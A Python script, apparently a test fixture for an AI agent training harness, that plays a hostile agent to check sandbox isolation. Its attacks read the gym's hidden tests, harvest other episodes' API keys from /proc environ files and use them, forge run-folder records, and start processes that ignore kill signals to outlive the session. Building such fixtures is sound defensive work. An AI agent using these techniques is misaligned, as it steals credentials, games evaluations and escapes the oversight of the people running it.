"""A hostile agent program: it tries what its first argument names and prints what it got as its outcome."""

import json
import os
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path


def hidden(package_dir):
    """Import the gym's hidden tests, or read them from the installed package."""
    try:
        from bugfix_gym.families import FAMILIES  # noqa: F401

        imported = True
    except ImportError:
        imported = False
    readable = []
    for path in Path(package_dir).rglob("*.py"):
        try:
            readable.append(len(path.read_text()) and str(path))
        except OSError:
            pass
    return {"imported": imported, "readable": readable}


def sibling():
    """Find another episode's key in /proc/PID/environ and write a call into that episode."""
    own, keys = os.environ["OPENAI_API_KEY"], set()
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            variables = environ.read_bytes().split(b"\0")
        except OSError:
            continue
        keys |= {v.split(b"=", 1)[1].decode() for v in variables if v.startswith(b"OPENAI_API_KEY=")} - {own}
    root = os.environ["OPENAI_BASE_URL"].split("/sessions/")[0].removesuffix("/v1")
    accepted = 0
    for key in keys:
        body = json.dumps({"model": os.environ["AGENTRL_MODEL"], "messages": [{"role": "user", "content": "x"}]})
        request = urllib.request.Request(f"{root}/v1/chat/completions", body.encode(), method="POST", headers={
            "Authorization": f"Bearer {key}", "Content-Type": "application/json"})
        try:
            urllib.request.urlopen(request, timeout=10).read()
            accepted += 1
        except OSError:
            pass
    return {"keys": len(keys), "accepted": accepted}


def run_folder(path):
    """Append to a run folder's file."""
    try:
        with open(path, "a") as out:
            out.write('{"forged": true}\n')
        return {"appended": True}
    except OSError as error:
        return {"appended": False, "error": str(error)}


def leave_child(marker, **popen):
    """A child that ignores the polite signals and sleeps, ``marker`` on its command line."""
    code = "import signal, time; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 15)]; time.sleep(600)"
    subprocess.Popen([sys.executable, "-c", code, marker], **popen)
    time.sleep(0.2)


def flood(megabytes, given):
    """One model call, then a flood of stdout, then the outcome."""
    import openai

    openai.OpenAI(max_retries=0).chat.completions.create(model=os.environ["AGENTRL_MODEL"],
                                                         messages=[{"role": "user", "content": "hi"}])
    block = b"x" * (1 << 20) + b"\n"
    for _ in range(megabytes):
        sys.stdout.buffer.write(block)
    return {"source": given["input"]["source"]}


attack, args = sys.argv[1], sys.argv[2:]
given = json.load(sys.stdin)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
if attack == "hidden":
    outcome = hidden(args[0])
elif attack == "environ":
    outcome = {"environ": sorted(os.environ)}
elif attack == "sibling":
    outcome = sibling()
elif attack == "run-folder":
    outcome = run_folder(args[0])
elif attack == "setsid":
    leave_child(args[0], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    outcome = {}
elif attack == "hold-stdout":
    leave_child(args[0])
    outcome = {}
elif attack == "flood":
    outcome = flood(int(args[0]), given)
elif attack == "sleep":
    time.sleep(float(args[0]))
    outcome = {}
else:
    raise SystemExit(f"no attack {attack!r}")
sys.stdout.write(json.dumps(outcome) + "\n")
